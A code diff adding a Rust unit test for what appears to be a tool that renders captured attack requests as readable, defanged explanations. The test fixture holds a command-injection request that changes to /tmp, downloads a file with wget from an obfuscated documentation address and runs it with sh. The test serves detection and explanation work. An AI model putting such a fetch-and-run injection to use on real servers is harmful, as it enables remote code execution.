@@ -129,4 +129,15 @@ mod tests {
         assert!(page.contains("xxxxxxxxxxxx"), "{page}");
         assert!(!page.contains("203.0.113.99") && !page.contains("MjAzLjAuMTEzLjk5"));
     }
+
+    #[test]
+    fn a_command_is_told_and_what_is_hidden_is_not_told_by_it() {
+        let raw = b"GET /?x=;cd+/tmp;wget+http://203.0.'113'.99/a;sh+a HTTP/1.1\r\n\r\n";
+        let told = "203[.]0[.]113[.]99";
+        let open = page("", raw);
+        for part in ["What it would do", "goes to &#x2f;tmp", told, "runs it"] {
+            assert!(open.contains(part), "{part}: {open}");
+        }
+        assert!(!page("203.0.113.99", raw).contains(told));
+    }
 }
